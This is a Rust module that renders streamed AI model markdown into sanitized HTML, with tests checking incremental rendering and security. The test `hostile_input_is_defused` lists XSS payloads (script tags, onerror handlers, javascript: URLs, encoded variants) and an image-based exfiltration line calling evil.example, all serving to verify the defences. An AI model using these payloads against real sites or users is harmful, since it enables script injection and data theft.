//! Model markdown to safe HTML, incrementally while the answer streams.
//!
//! Model output is hostile input. Raw HTML in it is shown as text, never parsed as markup;
//! images become links (nothing is fetched); only http(s) links survive (the same rule
//! `open_link` applies on click: a `mailto:` link would hand text the model chose to another
//! app, so it is shown as text, not as a link that does nothing); and the
//! result goes through `ammonia` anyway, so a renderer bug cannot smuggle markup through.
//!
//! A message is rendered one top-level block at a time. While streaming, a block is final
//! once a blank line and the complete first line of the next block follow it (CommonMark never
//! reopens a closed block); final blocks are rendered once, and only the open tail block is
//! re-rendered, so the cost of a streamed answer grows linearly with its length.
//! [`render_markdown`] applies the same chunking to a whole text, which is what makes the
//! incremental output equal a full render.

use std::collections::HashSet;
use std::ops::Range;
use std::sync::OnceLock;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use syntect::html::{ClassStyle, ClassedHTMLGenerator};
use syntect::parsing::SyntaxSet;
use syntect::util::LinesWithEndings;

/// CommonMark plus the GFM parts models use.
fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// Renders a whole message.
pub fn render_markdown(src: &str) -> String {
    if has_reference_definition(src) {
        return render_chunk(src);
    }
    let blocks = top_level_blocks(src);
    let bounds = chunk_starts(src, &blocks);
    let mut html = String::new();
    for (i, &start) in bounds.iter().enumerate() {
        let end = bounds.get(i + 1).copied().unwrap_or(src.len());
        html.push_str(&render_chunk(&src[start..end]));
    }
    html
}

/// What the UI applies after new text arrived.
#[derive(Debug, Default, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "camelCase")]
pub struct RenderUpdate {
    /// Throw away what was appended before (a link reference definition appeared: it can
    /// change earlier blocks, so the message is rendered whole from then on).
    pub reset: bool,
    /// HTML of blocks that just became final: append it, it will not change.
    pub append: String,
    /// HTML of the open last block: replace the previous tail with it.
    pub tail: String,
}

/// Renders a message as it grows.
#[derive(Debug, Default)]
pub struct IncrementalRenderer {
    src: String,
    /// Byte offset (at a line start) up to which blocks are final and were sent.
    committed: usize,
    /// A link reference definition was seen: render everything every time.
    whole: bool,
}

impl IncrementalRenderer {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn push(&mut self, text: &str) {
        self.src.push_str(text);
    }

    pub fn source(&self) -> &str {
        &self.src
    }

    /// Renders what changed since the last call.
    pub fn update(&mut self) -> RenderUpdate {
        let suffix = &self.src[self.committed..];
        if self.whole || has_reference_definition(suffix) {
            let reset = !self.whole || self.committed > 0;
            self.whole = true;
            self.committed = 0;
            return RenderUpdate {
                reset,
                append: String::new(),
                tail: render_chunk(&self.src),
            };
        }
        let blocks = top_level_blocks(suffix);
        let bounds = chunk_starts(suffix, &blocks);
        let mut append = String::new();
        let mut done = 0; // chunks of `suffix` now final
        for i in 0..blocks.len().saturating_sub(1) {
            if !is_final(suffix, &blocks[i], &blocks[i + 1]) {
                break;
            }
            append.push_str(&render_chunk(&suffix[bounds[i]..bounds[i + 1]]));
            done = i + 1;
        }
        let tail_start = bounds.get(done).copied().unwrap_or(suffix.len());
        let tail = render_chunk(&suffix[tail_start..]);
        self.committed += tail_start;
        RenderUpdate {
            reset: false,
            append,
            tail,
        }
    }
}

/// Byte ranges of the top-level blocks.
fn top_level_blocks(src: &str) -> Vec<Range<usize>> {
    let mut depth = 0usize;
    let mut blocks = Vec::new();
    for (event, range) in Parser::new_ext(src, options()).into_offset_iter() {
        match event {
            Event::Start(_) => {
                if depth == 0 {
                    blocks.push(range);
                }
                depth += 1;
            }
            Event::End(_) => depth = depth.saturating_sub(1),
            _ if depth == 0 => blocks.push(range),
            _ => {}
        }
    }
    blocks
}

fn line_start(src: &str, at: usize) -> usize {
    src[..at].rfind('\n').map_or(0, |p| p + 1)
}

/// Where each chunk starts: 0, then the start of the line of every later block.
fn chunk_starts(src: &str, blocks: &[Range<usize>]) -> Vec<usize> {
    let mut starts = vec![0];
    starts.extend(blocks.iter().skip(1).map(|b| line_start(src, b.start)));
    starts
}

/// `block` can no longer change: the line before `next` is blank (some blocks, lists among
/// them, count trailing blank lines as their own), and the first line of `next` is complete
/// (so its indentation, and what it is, are settled).
fn is_final(src: &str, block: &Range<usize>, next: &Range<usize>) -> bool {
    if !src[next.start..].contains('\n') {
        return false;
    }
    let next_line = line_start(src, next.start);
    if next_line <= block.start {
        return false;
    }
    let Some(before) = src[..next_line].strip_suffix('\n') else {
        return false;
    };
    let last_line = &before[before.rfind('\n').map_or(0, |p| p + 1)..];
    last_line.trim().is_empty()
}

/// A line that looks like `[label]: destination` (may redefine links anywhere in the text).
fn has_reference_definition(src: &str) -> bool {
    src.lines().any(|line| {
        let t = line.trim_start_matches(' ');
        line.len() - t.len() <= 3 && t.starts_with('[') && t.contains("]:")
    })
}

/// One chunk of markdown to sanitized HTML.
fn render_chunk(md: &str) -> String {
    if md.trim().is_empty() {
        return String::new();
    }
    let mut events = Vec::new();
    let mut code: Option<(String, String)> = None; // (language, text) of an open code block
    for event in Parser::new_ext(md, options()) {
        if let Some((_, text)) = code.as_mut() {
            match event {
                Event::Text(t) => text.push_str(&t),
                Event::End(TagEnd::CodeBlock) => {
                    let (lang, text) = code.take().expect("open code block");
                    events.push(Event::Html(highlight(&text, &lang).into()));
                }
                _ => {}
            }
            continue;
        }
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                let lang = match kind {
                    CodeBlockKind::Fenced(info) => info.split_whitespace().next().unwrap_or("").to_string(),
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((lang, String::new()));
            }
            // Raw HTML from the model is text to show, not markup to run.
            Event::Html(t) | Event::InlineHtml(t) => events.push(Event::Text(t)),
            // An image would be fetched from the network: show a link to it instead.
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                events.push(Event::Start(Tag::Link {
                    link_type,
                    dest_url,
                    title,
                    id,
                }));
                events.push(Event::Text("Image: ".into()));
            }
            Event::End(TagEnd::Image) => events.push(Event::End(TagEnd::Link)),
            other => events.push(other),
        }
    }
    if let Some((lang, text)) = code.take() {
        events.push(Event::Html(highlight(&text, &lang).into()));
    }
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    sanitizer().clean(&html).to_string()
}

fn syntaxes() -> &'static SyntaxSet {
    static SET: OnceLock<SyntaxSet> = OnceLock::new();
    SET.get_or_init(SyntaxSet::load_defaults_newlines)
}

/// Loads the syntax definitions now, so the first code block does not wait for them.
pub fn warm_up() {
    let _ = syntaxes();
    let _ = sanitizer();
}

/// A code block with `hl-*` classes for the stylesheet; the UI adds its Copy button.
fn highlight(code: &str, lang: &str) -> String {
    let lang: String = lang
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '#' | '-' | '_' | '.'))
        .take(32)
        .collect();
    let set = syntaxes();
    let syntax = (!lang.is_empty())
        .then(|| set.find_syntax_by_token(&lang))
        .flatten()
        .unwrap_or_else(|| set.find_syntax_plain_text());
    let mut generator =
        ClassedHTMLGenerator::new_with_class_style(syntax, set, ClassStyle::SpacedPrefixed { prefix: "hl-" });
    for line in LinesWithEndings::from(code) {
        if generator.parse_html_for_line_which_includes_newline(line).is_err() {
            return format!("<pre class=\"code\"><code>{}</code></pre>\n", escape_html(code));
        }
    }
    format!(
        "<pre class=\"code\" data-lang=\"{lang}\"><code>{}</code></pre>\n",
        generator.finalize()
    )
}

/// The app's one HTML escaper (text and attribute values alike).
pub(crate) fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static CLEANER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    CLEANER.get_or_init(|| {
        let tags: HashSet<&str> = [
            "a",
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "pre",
            "code",
            "span",
            "em",
            "strong",
            "del",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "input",
        ]
        .into_iter()
        .collect();
        let mut b = ammonia::Builder::empty();
        b.tags(tags)
            .url_schemes(["http", "https"].into_iter().collect())
            // A relative link would resolve against the app's own origin: drop it.
            .url_relative(ammonia::UrlRelative::Deny)
            .link_rel(Some("noopener noreferrer nofollow"))
            .add_tag_attributes("a", ["href", "title"])
            .add_tag_attributes("ol", ["start"])
            .add_tag_attributes("pre", ["class", "data-lang"])
            .add_tag_attributes("code", ["class"])
            .add_tag_attributes("span", ["class"])
            .add_tag_attributes("li", ["class"])
            .add_tag_attributes("input", ["type", "checked", "disabled"])
            .attribute_filter(|element, attribute, value| match (element, attribute) {
                // Task-list boxes only, and never clickable.
                ("input", "type") => (value == "checkbox").then_some(value.into()),
                ("input", "disabled") => Some("".into()),
                _ => Some(value.into()),
            })
            .set_tag_attribute_value("input", "disabled", "");
        b
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "# Title\n\nSome *text* with `code` and a [link](https://example.com).\n\n\
        - item one\n- item two\n\n  continued\n- [x] done\n\n\
        1. first\n2. second\n\n\
        > quote\nlazy line\n\n\
        | a | b |\n|---|:-:|\n| 1 | 2 |\n\n\
        ```rust\nfn main() {\n    println!(\"hi\");\n}\n```\n\n\
        Setext\n------\n\n\
        ~~gone~~ ünïcödé 🦀 你好\n\n    indented code\n\n    more\n\n---\n\nend";

    /// Streams `src` in pieces of the given sizes and rebuilds the HTML the UI would show.
    fn stream(src: &str, sizes: &[usize]) -> String {
        let mut r = IncrementalRenderer::new();
        let (mut shown, mut tail) = (String::new(), String::new());
        let mut at = 0;
        let mut k = 0;
        while at < src.len() {
            let mut end = (at + sizes[k % sizes.len()]).min(src.len());
            while !src.is_char_boundary(end) {
                end += 1;
            }
            r.push(&src[at..end]);
            at = end;
            k += 1;
            let u = r.update();
            if u.reset {
                shown.clear();
            }
            shown.push_str(&u.append);
            tail = u.tail;
        }
        shown + &tail
    }

    #[test]
    fn incremental_equals_full_render() {
        let full = render_markdown(SAMPLE);
        assert!(full.contains("<h1>Title</h1>"));
        assert!(full.contains("<table>"));
        assert!(full.contains("<h2>Setext</h2>"));
        for sizes in [
            vec![1],
            vec![2],
            vec![3],
            vec![7],
            vec![1, 5, 2, 11],
            vec![64],
            vec![10_000],
        ] {
            assert_eq!(stream(SAMPLE, &sizes), full, "sizes {sizes:?}");
        }
    }

    #[test]
    fn incremental_equals_full_on_tricky_boundaries() {
        for src in [
            "foo\n-\n\nbar\n",
            "foo\n---\nbar\n\nbaz",
            "- a\n\n b\n\nc\n",
            "- a\n\n  b\n\nc\n",
            "para\n\n```\nunclosed fence\n\nstill code",
            "a\n\n[ref]: https://example.com\n\nsee [ref]\n",
            "see [ref]\n\nmore\n\n[ref]: https://example.com\n",
            "| a |\n|---|\n| 1 |\nnot a row?\n\nafter",
            "> q\n\n> r\n\ntext",
            "\n\n\nleading blank lines\n\n\n\ntrailing\n\n\n",
        ] {
            let full = render_markdown(src);
            for size in 1..=4 {
                assert_eq!(stream(src, &[size]), full, "src {src:?} size {size}");
            }
        }
    }

    #[test]
    fn every_kind_of_block_is_committed_once_followed() {
        // A regression: lists count their trailing blank line as theirs, which once kept
        // everything after the first list in the tail (quadratic cost).
        let mut r = IncrementalRenderer::new();
        for c in SAMPLE.chars().chain(std::iter::once('\n')) {
            r.push(&c.to_string());
            r.update();
        }
        assert_eq!(&r.src[r.committed..], "end\n");
    }

    #[test]
    fn tail_only_is_rerendered() {
        let mut r = IncrementalRenderer::new();
        r.push("first paragraph\n\nsecond");
        let u = r.update();
        assert_eq!(u.append, "");
        r.push(" paragraph\n\nthird\n");
        let u = r.update();
        assert_eq!(u.append, "<p>first paragraph</p>\n<p>second paragraph</p>\n");
        assert_eq!(u.tail, "<p>third</p>\n");
    }

    #[test]
    fn hostile_input_is_defused() {
        let corpus = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<style>body{display:none}</style>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](  javascript:alert(1) )",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](vbscript:msgbox(1))",
            "[x](file:///etc/passwd)",
            "![exfil](https://evil.example/leak?q=secret)",
            "![x](javascript:alert(1))",
            "<svg onload=alert(1)>",
            "<div style=\"position:fixed\" onclick=\"alert(1)\">x</div>",
            "<object data=x></object><embed src=x>",
            "<form action=https://evil.example><input name=q></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<base href=https://evil.example/>",
            "```html\n<script>alert(1)</script>\n```",
            "`<img src=x onerror=alert(1)>`",
            "<details open ontoggle=alert(1)>",
            "[a](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
            "<<script>script>alert(1)<</script>/script>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "[x](&#106;avascript:alert(1))",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "- [ ] <input type=text autofocus onfocus=alert(1)>",
        ];
        for md in corpus {
            let html = render_markdown(md);
            // Text may mention anything (it is escaped); markup must carry none of it.
            for tag in tags_of(&html) {
                let name: String = tag
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '/')
                    .collect();
                let name = name.trim_start_matches('/');
                assert!(
                    [
                        "a", "p", "code", "pre", "span", "em", "strong", "del", "table", "thead", "tbody", "tr", "th",
                        "td", "ul", "ol", "li", "input"
                    ]
                    .contains(&name),
                    "{md:?} -> tag <{tag}> in {html}"
                );
                for bad in ["javascript:", "vbscript:", "data:", "file:", "type=\"text\""] {
                    assert!(!tag.contains(bad), "{md:?} -> {bad} in <{tag}> of {html}");
                }
                // Attribute names only (quoted values removed): no handlers, styles or sources.
                let names: String = tag.split('"').step_by(2).collect();
                for bad in [" on", "style=", "src="] {
                    assert!(!names.contains(bad), "{md:?} -> {bad} in <{tag}> of {html}");
                }
            }
        }
    }

    /// The inside of every tag of `html`, lower-cased.
    fn tags_of(html: &str) -> Vec<String> {
        let lower = html.to_lowercase();
        let mut tags = Vec::new();
        let mut rest = lower.as_str();
        while let Some(open) = rest.find('<') {
            let close = rest[open..].find('>').map(|c| open + c).expect("tags close");
            tags.push(rest[open + 1..close].to_string());
            rest = &rest[close + 1..];
        }
        tags
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = render_markdown("<script>alert(1)</script>");
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
    }

    #[test]
    fn images_become_links_and_links_are_safe() {
        let html = render_markdown("![a cat](https://example.com/cat.png)");
        assert!(html.contains("<a href=\"https://example.com/cat.png\""), "{html}");
        assert!(html.contains("Image: a cat"), "{html}");
        let html = render_markdown("[x](https://example.com)");
        assert!(html.contains("rel=\"noopener noreferrer nofollow\""), "{html}");
    }

    /// Render and click agree: `open_link` opens http(s) only, so nothing else is a link.
    /// Before, `mailto:` rendered as a link that was refused on click.
    #[test]
    fn only_links_that_open_are_links() {
        for md in [
            "[mail me](mailto:a@b.example?subject=x)",
            "<mailto:a@b.example>",
            "[t](tel:+100)",
        ] {
            let html = render_markdown(md);
            assert!(!html.contains("href"), "{md}: {html}");
        }
        // The words stay.
        assert!(render_markdown("[mail me](mailto:a@b.example)").contains("mail me"));
    }

    #[test]
    fn the_one_escaper_covers_text_and_attributes() {
        assert_eq!(
            escape_html("<a href=\"x\" title='y'>&</a>"),
            "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;"
        );
    }

    #[test]
    fn code_is_highlighted_with_classes() {
        let html = render_markdown("```rust\nfn main() {}\n```");
        assert!(html.contains("<pre class=\"code\" data-lang=\"rust\">"), "{html}");
        assert!(html.contains("class=\"hl-"), "{html}");
        let html = render_markdown("```\"><script>\nx\n```");
        assert!(!html.contains("<script"), "{html}");
    }

    #[test]
    fn gfm_features() {
        let html = render_markdown("~~s~~\n\n- [x] done\n- [ ] todo\n\n| a |\n|---|\n| 1 |");
        assert!(html.contains("<del>s</del>"), "{html}");
        assert!(
            html.contains("<input type=\"checkbox\" checked=\"\" disabled=\"\">")
                || html.contains("<input disabled=\"\" type=\"checkbox\" checked=\"\">"),
            "{html}"
        );
        assert!(html.contains("<td>1</td>"), "{html}");
    }
}
